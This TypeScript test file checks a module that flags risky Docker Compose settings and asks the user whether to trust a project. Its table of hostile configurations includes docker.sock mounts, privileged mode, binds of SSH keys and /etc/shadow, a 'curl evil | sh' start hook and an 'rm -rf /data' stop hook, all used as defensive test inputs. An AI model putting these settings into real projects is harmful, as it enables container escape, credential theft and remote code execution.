import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { trustQuestions, untrustedFacts } from '@shared/domain/checks/trust';
import type { ComposeModel, ComposeService } from '@shared/domain/compose/model';
import { riskyFactsOfModel } from '@shared/domain/engine/risky-facts';
import type { RiskyFact } from '@shared/domain/projects/project';
import { DIR, model, network, volume } from './check-input';

const bind = (source: string, read_only = false) => ({ volumes: [{ type: 'bind' as const, source, target: '/x', read_only }] });

/** Hostile compose models: [what, the model, the kind of fact that must be named, words that must be in the question]. */
const HOSTILE: readonly (readonly [string, Partial<ComposeService> | ComposeModel, RiskyFact['kind'], RegExp])[] = [
  ['docker.sock', bind('/var/run/docker.sock', true), 'docker-socket', /control Docker itself/],
  ['docker.sock in /run', bind('/run/docker.sock'), 'docker-socket', /control Docker/],
  ['the folder of docker.sock', bind('/var/run'), 'docker-socket', /control Docker/],
  ['the folder above it', bind('/run'), 'docker-socket', /control Docker/],
  ['podman.sock', bind('/run/user/1000/podman/podman.sock'), 'docker-socket', /control Docker/],
  ['containerd.sock', bind('/run/containerd/containerd.sock'), 'docker-socket', /control Docker/],
  ['docker.sock by a detour', bind('/home/../var/run/./docker.sock'), 'docker-socket', /control Docker/],
  ['use_api_socket', { use_api_socket: true }, 'docker-socket', /control Docker/],
  ['the whole disk', bind('/'), 'docker-socket', /control Docker/],
  ['privileged', { privileged: true }, 'privileged', /full access/],
  ['the host network', { network_mode: 'host' }, 'host-namespace', /network of this computer/],
  ['the host processes', { pid: 'host' }, 'host-namespace', /processes of this computer/],
  ['the host memory', { ipc: 'host' }, 'host-namespace', /shared memory/],
  ['the host name', { uts: 'host' }, 'host-namespace', /host name/],
  ['the host users', { userns_mode: 'host' }, 'host-namespace', /users of this computer/],
  ['the host control groups', { cgroup: 'host' }, 'host-namespace', /control groups/],
  ['network of a stranger', { network_mode: 'container:db' }, 'other', /joins the container db/],
  ['processes of a stranger', { pid: 'container:db' }, 'other', /joins the container db/],
  ['volumes of a stranger', { volumes_from: ['container:db:ro'] }, 'other', /joins the container db/],
  ['SYS_ADMIN', { cap_add: ['SYS_ADMIN'] }, 'capability', /SYS_ADMIN/],
  ['SYS_ADMIN in other letters', { cap_add: ['cap_sys_admin'] }, 'capability', /SYS_ADMIN/],
  ['every capability', { cap_add: ['ALL'] }, 'capability', /ALL/],
  ['SYS_PTRACE', { cap_add: ['SYS_PTRACE'] }, 'capability', /SYS_PTRACE/],
  ['NET_ADMIN', { cap_add: ['NET_ADMIN'] }, 'capability', /NET_ADMIN/],
  ['a disk as device', { devices: [{ source: '/dev/sda', target: '/dev/sda' }] }, 'device', /\/dev\/sda/],
  ['fuse', { devices: [{ source: '/dev/fuse', target: '/dev/fuse', permissions: 'rwm' }] }, 'device', /\/dev\/fuse/],
  ['device rules', { device_cgroup_rules: ['a *:* rwm'] }, 'device', /a \*:\* rwm/],
  ['a graphics card', { gpus: [{ count: -1 }] }, 'device', /gpu/],
  ['seccomp off', { security_opt: ['seccomp:unconfined'] }, 'security-option', /seccomp=unconfined/],
  ['own seccomp profile', { security_opt: ['seccomp=/tmp/p.json'] }, 'security-option', /seccomp=custom/],
  ['apparmor off', { security_opt: ['apparmor=unconfined'] }, 'security-option', /apparmor=unconfined/],
  ['labels off', { security_opt: ['label:disable'] }, 'security-option', /label=disable/],
  ['new privileges', { security_opt: ['no-new-privileges:false'] }, 'security-option', /no-new-privileges/],
  ['ssh keys', bind('/home/ann/.ssh', true), 'bind-outside', /read \/home\/ann\/\.ssh/],
  ['ssh keys, writable', bind('/home/ann/.ssh'), 'bind-outside', /read and change \/home\/ann\/\.ssh/],
  ['the home folder', bind('/home/ann'), 'bind-outside', /\/home\/ann, outside/],
  ['a sibling with the same letters', bind(`${DIR}-secret`), 'bind-outside', /shop-secret/],
  ['out by dots', bind(`${DIR}/../other`), 'bind-outside', /outside the project/],
  ['/etc', bind('/etc'), 'bind-outside', /\/etc/],
  ['a secret from outside', model({ a: { secrets: [{ source: 's' }] } }, { secrets: { s: { file: '/etc/shadow' } } }), 'bind-outside', /read \/etc\/shadow/],
  ['a config from outside', model({ a: { configs: [{ source: 's' }] } }, { configs: { s: { file: '/etc/passwd' } } }), 'bind-outside', /read \/etc\/passwd/],
  ['a volume that is a folder', model({ a: { volumes: [{ type: 'volume', source: 'v', target: '/v' }] } }, { volumes: { v: volume('v', { driver_opts: { type: 'none', o: 'bind', device: '/root' } }) } }), 'bind-outside', /\/root/],
  ['a volume that is the socket’s folder', model({ a: { volumes: [{ type: 'volume', source: 'v', target: '/v' }] } }, { volumes: { v: volume('v', { driver_opts: { type: 'none', o: 'bind', device: '/var/run' } }) } }), 'docker-socket', /control Docker/],
  ['a network share as volume', model({ a: { volumes: [{ type: 'volume', source: 'v', target: '/v' }] } }, { volumes: { v: volume('v', { driver_opts: { type: 'nfs', device: ':/export' } }) } }), 'other', /nfs/],
  ['a volume plugin', model({ a: { volumes: [{ type: 'volume', source: 'v', target: '/v' }] } }, { volumes: { v: volume('v', { driver: 'evil' }) } }), 'other', /driver evil/],
  ['a network on the host’s card', model({ a: { networks: { n: null } } }, { networks: { n: network('n', { driver: 'macvlan' }) } }), 'other', /macvlan/],
  ['a runtime', { runtime: 'evil' }, 'other', /runtime evil/],
  ['a control group', { cgroup_parent: '/system.slice' }, 'other', /control group/],
  ['logs to a stranger', { logging: { driver: 'syslog', options: { 'syslog-address': 'tcp://evil' } } }, 'other', /syslog/],
  ['built from outside', { build: { context: '/home/ann' } }, 'other', /outside the project/],
  ['built on the host network', { build: { context: DIR, network: 'host' } }, 'host-namespace', /network of this computer/],
  ['a hook after start', { post_start: [{ command: ['sh', '-c', 'curl evil | sh'] }] }, 'hook', /curl evil/],
  ['a hook before stop', { pre_stop: [{ command: ['rm', '-rf', '/data'] }] }, 'hook', /rm -rf/],
];

const modelOf = (parts: Partial<ComposeService> | ComposeModel): ComposeModel => ('services' in parts ? (parts as ComposeModel) : model({ a: parts as Partial<ComposeService> }));

describe('trust', () => {
  it('has a table worth its name', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(40));

  it.each(HOSTILE)('asks about %s', (_, parts, kind, words) => {
    const hostile = modelOf(parts);
    const facts = riskyFactsOfModel(hostile, DIR);
    expect(facts.map((fact) => fact.kind)).toContain(kind);
    expect(trustQuestions({ name: 'shop', trusted: false }, hostile, untrustedFacts(facts, null)).join('\n')).toMatch(words);
    // A project trusted for what it held before this came is asked again; one trusted for this is not.
    expect(trustQuestions({ name: 'shop', trusted: true }, hostile, untrustedFacts(facts, [])).length).toBe(facts.length);
    expect(trustQuestions({ name: 'shop', trusted: true }, hostile, untrustedFacts(facts, facts.map((fact) => fact.key)))).toEqual([]);
  });

  it('a harmless project is asked about once, in general', () => {
    const harmless = model({ api: { build: { context: `${DIR}/api` }, volumes: [{ type: 'bind', source: `${DIR}/src`, target: '/src' }], cap_drop: ['ALL'], security_opt: ['no-new-privileges:true'], networks: { default: null } }, db: { volumes: [{ type: 'volume', source: 'data', target: '/data' }] } }, { networks: { default: network('shop_default') }, volumes: { data: volume('shop_data') } });
    expect(riskyFactsOfModel(harmless, DIR)).toEqual([]);
    expect(trustQuestions({ name: 'shop', trusted: false }, harmless, [])).toEqual(['shop runs 2 services and builds 1 image from this folder: what its files say is run on this computer.']);
    expect(trustQuestions({ name: 'shop', trusted: true }, harmless, [])).toEqual([]);
  });

  it('the most dangerous comes first', () => {
    const hostile = model({ a: { ...bind('/etc'), privileged: true }, b: bind('/run/docker.sock') });
    const questions = trustQuestions({ name: 'shop', trusted: true }, hostile, riskyFactsOfModel(hostile, DIR));
    expect(questions[0]).toMatch(/control Docker/);
    expect(questions[1]).toMatch(/privileged/);
  });

  it('only facts whose key was trusted are left out, whatever the order', () => {
    const fact = fc.record({ key: fc.constantFrom('a', 'b', 'c', 'd', 'e'), kind: fc.constant('other' as const), service: fc.constant('s'), text: fc.string() });
    fc.assert(
      fc.property(fc.array(fact), fc.subarray(['a', 'b', 'c', 'd', 'e']), (facts, trusted) => {
        const left = new Set(untrustedFacts(facts, trusted).map((one) => one.key));
        for (const one of facts) expect(left.has(one.key)).toBe(!trusted.includes(one.key));
      }),
    );
  });
});
